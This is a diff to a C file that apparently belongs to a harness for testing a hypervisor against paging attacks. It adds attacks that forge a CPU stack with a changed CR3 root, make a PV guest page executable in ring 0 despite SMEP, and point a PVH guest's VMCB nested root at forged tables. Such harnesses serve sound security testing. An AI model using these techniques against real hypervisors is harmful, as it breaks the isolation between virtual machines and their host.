@@ -16,6 +16,7 @@
 #define SUPERPAGE (1UL << 21)
 #define HYPERCALL_MMU_UPDATE 1
 #define DOMID_SELF 0x7ff0
+#define VMCB_NESTED_ROOT 0xb0
 #define NESTED_ADDRESS (ATTACK_GUEST_FRAME << 12)
 
 /* The code that the proofs change: whoever calls it through attack_ops gets there. */
@@ -162,12 +163,22 @@ static word forged_root(word address, word *page)
     return physical(root);
 }
 
-static word root_with_changed(const char *function)
+word root_with_changed(const char *function)
 {
     word page, root = forged_root(code(function), &page);
 
     write_jump(page + (code(function) & (PAGE - 1)), won());
     return root;
+}
+
+/* What the hypervisor knows of a CPU stands at the end of its stack. */
+word forged_stack(word original, const char *function)
+{
+    word stack = heap_pages(STACK_ORDER), end = STACK_SIZE - 256;
+
+    copy_words(stack + end, original + end, 256 / 8);
+    poke(stack + (fact(FACT_ENTRY_CR3, 0) & (STACK_SIZE - 1)), root_with_changed(function));
+    return stack;
 }
 
 /* What the guest does next is to leave its kernel, by the hypercall do_iret(). */
@@ -213,6 +224,20 @@ static void guest_entry(void)
     use_guest_mapping(page);
 }
 
+/* A guest's page becomes one of ring 0, which SMEP does not keep from being executed there. */
+static void guest_executable(void)
+{
+    char *page = guest_page();
+    word words[2];
+
+    jump_words(won(), words);
+    memcpy(page, words, sizeof(words));
+    poke(entry_of((word)page), physical((word)page) | ACCESSED_DIRTY | WRITABLE | PRESENT);
+    cause(CAUSE_RELOAD_CR3, 0);
+    poke(data("attack_call"), (word)page);
+    cause(CAUSE_CALL, 0);
+}
+
 /* What the hypervisor knows of the code's frame becomes what it knows of a guest's: its own checks pass. */
 static void guest_mapping(void)
 {
@@ -239,16 +264,33 @@ static char *far_page(void)
     return page;
 }
 
-static void nested_entry(void)
+/* Makes the second entry of a nested root lead to the victim. */
+static void add_nested(word root)
 {
-    word root = fact(FACT_NESTED_ROOT, 0), flags = ACCESSED_DIRTY | USER | WRITABLE | PRESENT;
-    word l3 = heap_pages(0), l2 = heap_pages(0), l1 = heap_pages(0);
-    char *page = far_page();
+    word flags = ACCESSED_DIRTY | USER | WRITABLE | PRESENT, l3 = heap_pages(0), l2 = heap_pages(0), l1 = heap_pages(0);
 
     poke(l1, (physical(victim()) & FRAME_MASK) | flags);
     poke(l2, physical(l1) | flags);
     poke(l3, physical(l2) | flags);
-    poke(directmap_of(root) + 8, physical(l3) | flags);
+    poke(root + 8, physical(l3) | flags);
+}
+
+static void nested_entry(void)
+{
+    char *page = far_page();
+
+    add_nested(directmap_of(fact(FACT_NESTED_ROOT, 0)));
+    use_guest_mapping(page);
+}
+
+static void nested_root(void)
+{
+    word root = heap_pages(0);
+    char *page = far_page();
+
+    copy_words(root, directmap_of(fact(FACT_NESTED_ROOT, 0)), PAGE / 8);
+    add_nested(root);
+    poke(fact(FACT_VMCB, 0) + VMCB_NESTED_ROOT, physical(root));
     use_guest_mapping(page);
 }
 
@@ -271,8 +313,10 @@ const struct attack paging_attacks[] = {
     { "cr3-guest-table", "the number of the guest's root page table becomes that of a forged one", cr3_guest_table },
     { "cr3-call", "the function that loads CR3 is called with forged tables", cr3_call },
     { "guest-entry", "an entry of a PV guest's page table maps code for the guest to write", guest_entry },
+    { "guest-executable", "an entry of a PV guest's page table makes its page one of ring 0, which is called", guest_executable },
     { "guest-mapping", "a PV guest maps code, after the hypervisor's knowledge of that frame was changed", guest_mapping },
     { "nested-entry", "the root of a PVH guest's nested page table leads to code for the guest to write", nested_entry, 1 },
+    { "nested-root", "what a PVH guest is run by names forged nested page tables", nested_root, 1 },
     { "nested-mapping", "the hypervisor maps code into a PVH guest, by the number of a frame that was changed", nested_mapping, 1 },
     { 0 }
 };
